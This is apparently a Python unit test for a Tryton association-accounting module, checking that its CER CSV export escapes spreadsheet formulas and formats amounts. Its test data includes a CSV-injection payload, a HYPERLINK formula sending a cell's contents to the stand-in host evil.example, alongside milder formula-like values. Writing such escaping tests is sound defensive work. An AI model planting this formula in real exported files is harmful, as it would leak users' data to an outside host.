import csv
import io
from decimal import Decimal

from trytond.tests.test_tryton import ModuleTestCase, with_transaction


class AccountAssoTestCase(ModuleTestCase):
    "Test Connexion associative accounting module"
    module = 'connexion_account_asso'

    @with_transaction()
    def test_cer_csv_formulas(self):
        "CER file: names that start like formulas are text, amounts numbers"
        from ..cer import to_csv
        lines = [{'section': "Emplois", 'reference': '1',
                'heading': '=1+1', 'amount': Decimal('-12.50'),
                'total': False}]
        details = [
            ('6068', '=HYPERLINK("http://evil.example/?"&A1;"Voir")',
                '@SUM(1+1)', Decimal('-3.00')),
            ('626', '-1+1', '+1', Decimal('4.00')),
            ('627', '\t=1+1', 'Frais', Decimal('0.50'))]
        content = to_csv(lines, details, Decimal('0.3521'))
        rows = list(csv.reader(io.StringIO(content.decode('utf-8-sig')),
                delimiter=';'))
        self.assertEqual(rows[1], ["Emplois", '1', "'=1+1", '-12,50'])
        self.assertIn(['6068', """'=HYPERLINK("http://evil.example/?"&A1;"""
                '"Voir")', "'@SUM(1+1)", '-3,00'], rows)
        self.assertIn(['626', "'-1+1", "'+1", '4,00'], rows)
        self.assertIn(['627', "'\t=1+1", 'Frais', '0,50'], rows)
        self.assertIn(['', '', 'Share of public generosity in resources',
                '35,21 %'], rows)


del ModuleTestCase
